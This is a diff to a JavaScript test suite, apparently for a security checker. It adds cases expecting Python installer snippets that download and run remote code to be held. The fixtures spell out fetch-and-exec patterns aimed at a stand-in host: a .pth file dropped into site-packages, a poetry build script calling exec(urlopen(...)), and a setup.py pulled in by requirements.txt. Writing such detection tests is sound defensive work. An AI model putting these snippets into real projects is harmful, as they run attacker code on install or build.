@@ -79,6 +79,23 @@ describe('the checks hold an installer that runs what it has fetched', () => {
       'from an unknown host by a wheel in two steps',
       `${FETCH}urlretrieve("https://e.example/a.whl", "a-1.0-py3-none-any.whl")\nsubprocess.run([sys.executable, "-m", "pip", "install", "a-1.0-py3-none-any.whl"])\n`,
     ],
+    [
+      'as a path file of Python',
+      `${FETCH}import site\nurlretrieve("https://e.example/a", os.path.join(site.getsitepackages()[0], "a.pth"))\n`,
+    ],
+    [
+      'in the script of a build',
+      '',
+      {
+        'pyproject.toml': '[tool.poetry.build]\nscript = "tools/build.py"\n',
+        'tools/build.py': `${FETCH}if __name__ == "__main__":\n    exec(urlopen("https://e.example/a").read())\n`,
+      },
+    ],
+    [
+      'in a package that its requirements name',
+      '',
+      { 'requirements.txt': '-e ./parts\n', 'parts/setup.py': `${FETCH}exec(urlopen("https://e.example/a").read())\n` },
+    ],
   ])('%s', async (_name, installer, others = {}) => {
     expect(await levelOf(installer, others)).toBe('hold');
   });
